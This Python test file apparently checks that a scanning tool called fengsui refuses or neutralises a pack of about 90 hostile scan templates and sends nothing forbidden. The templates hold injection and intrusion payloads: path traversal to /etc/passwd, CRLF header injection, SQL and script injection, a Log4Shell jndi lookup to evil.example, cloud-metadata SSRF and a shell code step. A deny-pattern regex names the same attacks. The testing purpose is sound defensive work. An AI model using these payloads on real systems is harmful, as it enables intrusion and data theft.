"""A pack of templates that tries everything: by the listeners' own logs nothing forbidden is ever sent."""
import pathlib
import re
import sys

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent))
from peers.dns_server import DnsServer  # noqa: E402
from peers.listener import Listener, page, redirect  # noqa: E402
from support.harness import case, check_equal, check_true, fengsui, main, row, write_registry  # noqa: E402

INFO = "info: {name: Test, author: fengsui, severity: high%s}\n"
MATCH = "    matchers:\n      - {type: word, words: ['hello']}\n"
STRANGER = "127.0.0.9"
CRLF = "%0d%0aX-Evil: 1"


def path(text, more=""):
    return f"http:\n  - method: GET\n    path: ['{{{{BaseURL}}}}{text}']\n{more}{MATCH}"


def method(name, more=""):
    return f"http:\n  - method: {name}\n    path: ['{{{{BaseURL}}}}/m-{name.lower()}']\n{more}{MATCH}"


def header(name, value):
    return path("/h", f"    headers: {{'{name}': '{value}'}}\n")


def raw(lines, more=""):
    return "http:\n  - raw:\n      - |\n" + "".join(f"        {line}\n" for line in lines) + "\n" + more + MATCH


def extracted(second, expression="v=(\\S+)", more=""):
    """A value of the answer to /seed goes into a second request."""
    return ("http:\n  - raw:\n      - |\n        GET /seed HTTP/1.1\n        Host: {{Hostname}}\n\n      - |\n"
            + "".join(f"        {line}\n" for line in second) + "\n" + more
            + f"    extractors:\n      - {{type: regex, name: v, internal: true, group: 1, regex: ['{expression}']}}\n" + MATCH)


def attempts(port):
    """name: (template without id and info, tags)"""
    other = f"{STRANGER}:{port}"
    made = {f"method-{name.lower()}": method(name) for name in
            ("POST", "PUT", "DELETE", "PATCH", "TRACE", "CONNECT", "PURGE", "DEBUG")}
    made |= {
        "method-by-variable": "variables: {m: POST}\n" + raw(["{{m}} /m HTTP/1.1", "Host: {{Hostname}}"]),
        "raw-put": raw(["PUT /m HTTP/1.1", "Host: {{Hostname}}", "", "x"]),
        "propfind": raw(["PROPFIND / HTTP/1.1", "Host: {{Hostname}}"]),
        "body-of-get": path("/b", "    body: 'a=1'\n"),
        "raw-body": raw(["GET /b HTTP/1.1", "Host: {{Hostname}}", "", "a=1"]),
        "host-header": header("Host", "evil.example"),
        "raw-host": raw(["GET / HTTP/1.1", "Host: evil.example"]),
        "raw-host-variable": "variables: {h: evil.example}\n" + raw(["GET / HTTP/1.1", "Host: {{h}}"]),
        "annotation-host": raw([f"@Host: http://{other}", "GET /a HTTP/1.1", "Host: {{Hostname}}"]),
        "annotation-sni": raw(["@tls-sni: evil.example", "GET /a HTTP/1.1", "Host: {{Hostname}}"]),
        "absolute-url": f"http:\n  - method: GET\n    path: ['http://{other}/x']\n{MATCH}",
        "absolute-url-by-variable": f"variables: {{u: 'http://{other}'}}\nhttp:\n  - method: GET\n    path: ['{{{{u}}}}/x']\n{MATCH}",
        "raw-absolute-url": raw([f"GET http://{other}/x HTTP/1.1", "Host: {{Hostname}}"]),
        "user-info": f"http:\n  - method: GET\n    path: ['http://{{{{Host}}}}@{other}/x']\n{MATCH}",
        "suffix-of-host": f"http:\n  - method: GET\n    path: ['{{{{RootURL}}}}.evil.example/x']\n{MATCH}",
        "at-after-base": path(f"@{other}/x"),
        "other-port": f"http:\n  - method: GET\n    path: ['{{{{Scheme}}}}://{{{{Host}}}}:{port + 1}/x']\n{MATCH}",
        "x-forwarded-for": header("X-Forwarded-For", "127.0.0.1"),
        "x-forwarded-host": header("X-Forwarded-Host", "evil.example"),
        "x-original-url": header("X-Original-URL", "/admin"),
        "x-rewrite-url": header("X-Rewrite-URL", "/admin"),
        "method-override": header("X-HTTP-Method-Override", "DELETE"),
        "forwarded": header("Forwarded", "for=127.0.0.1"),
        "authorization": header("Authorization", "Basic YWRtaW46YWRtaW4="),
        "cookie": header("Cookie", "session=1"),
        "api-key": header("X-Api-Key", "k"),
        "header-name-with-lines": path("/h", "    headers: {\"X-A: 1\\r\\nX-Evil\": '1'}\n"),
        "header-value-with-lines": path("/h", "    headers: {'X-A': \"1\\r\\nX-Evil: 1\"}\n"),
        "transfer-encoding": header("Transfer-Encoding", "chunked"),
        "log4shell-header": header("User-Agent", "${jndi:ldap://evil.example/a}"),
        "climb": path("/../../etc/passwd"),
        "climb-encoded": path("/%2e%2e/%2e%2e/etc/passwd"),
        "climb-twice-encoded": path("/%252e%252e%252fetc/passwd"),
        "climb-semicolon": path("/..;/manager/html"),
        "lines-in-path": path(f"/x{CRLF}"),
        "sql": path("/x?id=1%27%20or%20%271%27=%271"),
        "sleep": path("/x?id=sleep(9)"),
        "script": path("/x?q=<script>alert(1)</script>"),
        "template-injection": path("/x?q={{7*7}}%24%7B7*7%7D"),
        "redirect-parameter": path("/x?next=https://evil.example"),
        "metadata": path("/x?url=http://169.254.169.254/latest"),
        "login": path("/login?username=admin&password=admin"),
        "callback": path("/x?u={{interactsh-url}}"),
        "callback-part": path("/x").replace("type: word", "type: word, part: interactsh_protocol"),
        "payload-list": path("/{{p}}", "    payloads: {p: ['../../etc/passwd']}\n"),
        "payload-file-outside": path("/{{p}}", "    payloads: {p: ../outside.txt}\n"),
        "payload-file-absolute": path("/{{p}}", "    payloads: {p: /etc/hostname}\n"),
        "payload-file-link": path("/{{p}}", "    payloads: {p: link.txt}\n"),
        "expression-makes-it": path("/{{base64_decode('Li4vLi4vZXRjL3Bhc3N3ZA==')}}"),
        "expression-hex": path("/{{hex_decode('2e2e2f')}}x"),
        "expression-concat": path("/x?f={{concat('/etc','/passwd')}}"),
        "extracted-host": extracted(["GET /x HTTP/1.1", "Host: {{v}}"], "host=(\\S+)"),
        "extracted-absolute": extracted(["GET {{v}} HTTP/1.1", "Host: {{Hostname}}"], "url=(\\S+)"),
        "extracted-lines-in-header": extracted(["GET /x HTTP/1.1", "Host: {{Hostname}}", "X-A: {{v}}"], "(?s)lines=(.+)end"),
        "extracted-lines-in-path": extracted(["GET /x{{v}} HTTP/1.1", "Host: {{Hostname}}"], "crlf=(\\S+)"),
        "extracted-climb": extracted(["GET /dir/{{v}} HTTP/1.1", "Host: {{Hostname}}"], "climb=(\\S+)"),
        "extracted-climb-encoded": extracted(["GET /dir/{{v}} HTTP/1.1", "Host: {{Hostname}}"], "encoded=(\\S+)"),
        "extracted-by-expression": extracted(["GET /dir/{{base64_decode(v)}} HTTP/1.1", "Host: {{Hostname}}"], "base64=(\\S+)"),
        "extracted-method": extracted(["{{v}} /x HTTP/1.1", "Host: {{Hostname}}"], "method=(\\S+)"),
        "extracted-cookie": extracted(["GET /x HTTP/1.1", "Host: {{Hostname}}", "Cookie: {{v}}"], "climb=(\\S+)"),
        "redirect-away": path("/leave", "    redirects: true\n    max-redirects: 5\n"),
        "redirect-protocol-relative": path("/leave2", "    redirects: true\n    max-redirects: 5\n"),
        "redirect-user-info": path("/leave3", "    redirects: true\n    max-redirects: 5\n"),
        "redirect-to-attack": path("/leave4", "    redirects: true\n    max-redirects: 5\n"),
        "redirect-other-scheme": path("/leave5", "    redirects: true\n    max-redirects: 5\n"),
        "unsafe": raw(["GET / HTTP/1.0", "X: y"], "    unsafe: true\n"),
        "race": raw(["GET /r HTTP/1.1", "Host: {{Hostname}}"], "    race: true\n    race_count: 9\n"),
        "pipeline": raw(["GET /p HTTP/1.1", "Host: {{Hostname}}"], "    pipeline: true\n"),
        "two-in-one": raw(["GET /p HTTP/1.1", "Host: {{Hostname}}", "", "GET /q HTTP/1.1", "Host: evil.example"]),
        "self-contained": "self-contained: true\n" + f"http:\n  - method: GET\n    path: ['http://{other}/']\n{MATCH}",
        "fuzzing": path("/f?a=1", "    fuzzing:\n      - {part: query, type: postfix, mode: single, fuzz: [\"'\"]}\n"),
        "tcp-data": f"tcp:\n  - host: ['{{{{Hostname}}}}']\n    inputs: [{{data: \"SET a 1\\r\\n\"}}]\n{MATCH}",
        "tcp-elsewhere": f"tcp:\n  - host: ['{other}']\n{MATCH}",
        "ssl-elsewhere": f"ssl:\n  - address: '{other}'\n    matchers:\n      - {{type: word, words: [a]}}\n",
        "dns-elsewhere": "dns:\n  - name: 'evil.example'\n    type: A\n    matchers:\n      - {type: word, words: [a]}\n",
        "dns-transfer": "dns:\n  - name: '{{FQDN}}'\n    type: AXFR\n    matchers:\n      - {type: word, words: [a]}\n",
        "resolve": path("/x?a={{resolve(\"evil.example\")}}"),
        "wait": path("/x?a={{wait_for(5)}}"),
        "public-ip": path("/x?a={{public_ip()}}"),
        "code": "code:\n  - engine: [sh]\n    source: |\n      touch /tmp/fengsui-attack\n",
        "javascript": "javascript:\n  - code: |\n      let m = require('nuclei/net');\n",
        "headless": "headless:\n  - steps: [{action: navigate, args: {url: '{{BaseURL}}'}}]\n",
        "file": "file:\n  - extensions: [all]\n    matchers:\n      - {type: word, words: [root]}\n",
        "flow-script": "flow: |\n  for (let i = 0; i < 9; i++) { http(1); }\n" + path("/s"),
        "many": path("/{{a}}{{b}}", "    attack: clusterbomb\n    payloads: {a: [%s], b: [%s]}\n"
                     % (",".join(f"a{i}" for i in range(100)), ",".join(f"b{i}" for i in range(100)))),
    }
    tagged = {f"tag-{tag}": (path("/t"), tag) for tag in ("dos", "intrusive", "fuzz", "fuzzing", "bruteforce", "default-login")}
    return {name: (text, "") for name, text in made.items()} | tagged


def write_pack(folder, made):
    folder.mkdir()
    for name, (text, tag) in made.items():
        tags = f", tags: {tag}" if tag else ""
        (folder / f"{name}.yaml").write_text(f"id: {name}\n" + INFO % tags + text, encoding="utf-8")
    (folder.parent / "outside.txt").write_text("stolen-word\n")
    (folder / "link.txt").symlink_to(folder.parent / "outside.txt")
    secret = folder.parent / "outside.yaml"
    secret.write_text("id: outside\n" + INFO % "" + path("/outside-template"))
    (folder / "link.yaml").symlink_to(secret)


SEED = ("v=x host=%(other)s url=http://%(other)s/x lines=1\r\nX-Evil: 1 end crlf=%%0d%%0aX-Evil:1 climb=../../etc/passwd "
        "encoded=%%2e%%2e%%2fetc/passwd base64=Li4vLi4vZXRjL3Bhc3N3ZA== method=DELETE")
FORBIDDEN = re.compile(r"\.\.|%2e|%252e|%0d|%0a|etc/|passwd|script|sleep|jndi|169\.254|evil|stolen|interact|7\*7|password|username|outside|"
                       r"https?://|[ '\"<>;]|/t$|/leave4/", re.IGNORECASE)


def target_server(port_of_stranger):
    other = f"{STRANGER}:{port_of_stranger}"

    def reply(request):
        line = request.split(b" ")
        asked = line[1].decode("latin-1") if len(line) > 1 else ""
        leads = {"/leave": f"http://{other}/", "/leave2": f"//{other}/", "/leave3": f"http://127.0.0.1@{other}/",
                 "/leave4": "/x/../../etc/passwd?id=1'", "/leave5": f"ftp://{other}/"}
        if asked in leads:
            return redirect(leads[asked])
        return page(SEED % {"other": other} if asked == "/seed" else "nothing", "200 OK" if asked == "/seed" else "404 Not Found")
    return Listener(reply)


def check_requests(requests, authority):
    """What reached the target is what section 4 of the contract permits."""
    for request in requests:
        head, _, body = request.partition(b"\r\n\r\n")
        first, *lines = head.decode("latin-1").split("\r\n")
        verb, asked, version = first.split(" ")
        headers = {line.split(":", 1)[0].lower(): line.split(":", 1)[1].strip() for line in lines}
        check_true(verb in ("GET", "HEAD", "OPTIONS") and version == "HTTP/1.1", first)
        check_equal(body, b"", f"body of {first}")
        check_true(asked.startswith("/") and not FORBIDDEN.search(asked), f"path {first}")
        check_equal(headers.get("host"), authority, f"host of {first}")
        check_true(headers.get("user-agent", "").startswith("Fengsui/"), f"user agent of {first}: {headers}")
        known = {"host", "user-agent", "accept", "accept-language", "accept-encoding", "connection"}
        check_equal(set(headers) - known, set(), f"headers of {first}")


@case
def nothing_forbidden_leaves(tmp):
    with Listener(page("hello"), address=STRANGER) as stranger, target_server(stranger.port) as server, DnsServer({}) as dns:
        made = attempts(stranger.port)
        check_true(len(made) >= 60, f"{len(made)} attempts")
        write_pack(tmp / "pack", made)
        target = f"http://127.0.0.1:{server.port}"
        registry = write_registry(tmp / "r.csv", row(target))
        result = fengsui("patrol", "--template", tmp / "pack", "--registry", registry, "--data", tmp / "d", "--check", "site.unreachable",
                         "--rate", "1000", "--deadline", "60", "--once", "--resolver", dns.address)
        check_equal(result.status, 0, result.err)
        check_equal(stranger.connections, 0, f"connections to the stranger: {stranger.requests}")
        check_requests(server.requests, f"127.0.0.1:{server.port}")
        check_true(not pathlib.Path("/tmp/fengsui-attack").exists(), "code was run")
        coverage = {check.split("/", 1)[1]: value for (_, check), value in result.coverage().items() if check.startswith("template/")}
        check_equal(set(made) - set(coverage), set(), "templates without a coverage line")
        check_true(any(request.startswith(b"GET /seed ") for request in server.requests), "the seed was asked for")
        completed = {name for name, (status, _) in coverage.items() if status == "completed" and name in made}
        check_true(all(name.startswith("redirect-") or name.startswith("extracted-") for name in completed), f"completed: {sorted(completed)}")
        check_equal(result.of_type("template"), [], "hits")


@case
def and_each_refusal_says_why(tmp):
    made = attempts(1)
    write_pack(tmp / "pack", made)
    result = fengsui("template", "validate", tmp / "pack")
    check_equal(result.status, 2, "some do not load")
    lines = {pathlib.Path(line["path"]).stem: line for line in result.of_type("template_status")}
    check_equal(set(made) - set(lines), set(), "templates without a line")
    silent = [name for name, line in lines.items() if line["status"] != "runnable" and not line.get("message")]
    check_equal(silent, [], "refused without a word")
    late = {name for name, line in lines.items() if line["status"] == "runnable"}
    check_true(all(name.startswith("redirect-") or name.startswith("extracted-") for name in late), f"runnable: {sorted(late)}")


if __name__ == "__main__":
    main()
